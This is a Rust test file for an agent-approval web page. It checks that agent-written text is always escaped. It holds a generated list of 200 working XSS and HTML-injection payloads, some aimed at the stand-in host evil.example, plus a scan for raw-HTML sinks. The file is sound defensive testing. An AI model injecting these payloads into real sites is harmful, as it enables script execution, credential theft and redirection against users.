//! What agents wrote never becomes an element or an attribute, wherever it stands on a page (CASES AP-13).

use serde_json::json;

use crate::hold::HoldView;
pub use crate::page::checks::{assert_only_ours, assert_quoted};

/// 20 kinds of payload in 10 dresses each.
pub fn payloads() -> Vec<String> {
    const KINDS: [&str; 20] = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script href=data:,alert(1) />",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<form action=https://evil.example><button>",
        "<base href=https://evil.example/>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>*{background:url(https://evil.example)}</style>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<template shadowrootmode=open><script>alert(1)</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "onmouseover=alert(1) style=position:fixed",
        "{{constructor.constructor('alert(1)')()}}${alert(1)}",
        "&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;",
    ];
    let dress: [fn(&str) -> String; 10] = [
        |text| text.to_owned(),
        |text| format!("\">{text}"),
        |text| format!("'>{text}"),
        |text| format!("</title></textarea></style></script>{text}"),
        |text| format!("-->{text}<!--"),
        |text| format!("]]>{text}<![CDATA["),
        |text| format!("\" {text} x=\""),
        |text| format!("</span></div></main>{text}"),
        |text| text.replace('<', "<\u{0}").replace(' ', "/\u{c}"),
        |text| text.to_uppercase().replace('A', "\u{202e}a\u{feff}"),
    ];
    KINDS.iter().flat_map(|kind| dress.iter().map(move |dress| dress(kind))).collect()
}

/// A hold all of whose texts are this one.
pub fn hold(text: &str) -> HoldView {
    let at = "2026-11-21T00:00:00.000Z";
    serde_json::from_value(json!({
        "id": "0195d6a0-0000-7000-8000-000000000001", "code": "K7QF", "state": "held", "agent": text,
        "source": "127.0.0.1", "advisory": true, "method": "POST", "url": format!("https://forum.example/{text}"),
        "http_version": "HTTP/1.1", "effect": text, "dialect": text, "operation": text, "rule": text, "why": [text],
        "digest": format!("sha256:{}", "0".repeat(64)), "body_bytes": 1, "headers": [[text, text]], "created_at": at,
        "deadline": at, "waiting": 0, "attempts": 1,
        "decisions": [{"approver": text, "decision": "approve", "digest": null, "reason": text, "at": at}],
        "outcome": {"status": 200, "at": at, "error": text},
        "approvals": {"needed": 2, "given": [text], "groups": [text]}, "edited": {"by": text, "at": at, "original": text},
        "frozen": true,
    }))
    .unwrap()
}

/// The templates have no way to write HTML but their own (CASES AP-13).
#[test]
fn no_file_of_the_page_writes_raw_html() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/page");
    let mut files = 0;
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        let text = std::fs::read_to_string(&path).unwrap();
        let doors: &[&str] = match path.extension().and_then(|extension| extension.to_str()) {
            _ if path.ends_with("tests.rs") => &[],
            Some("rs") => &["PreEscaped", "innerHTML"],
            _ => &[
                "innerHTML",
                "outerHTML",
                "insertAdjacent",
                "document.write",
                "eval(",
                "DOMParser",
                "http:",
                "https:",
            ],
        };
        files += 1;
        doors.iter().for_each(|door| assert!(!text.contains(door), "{}: {door}", path.display()));
    }
    assert!(files > 10, "{files}");
}
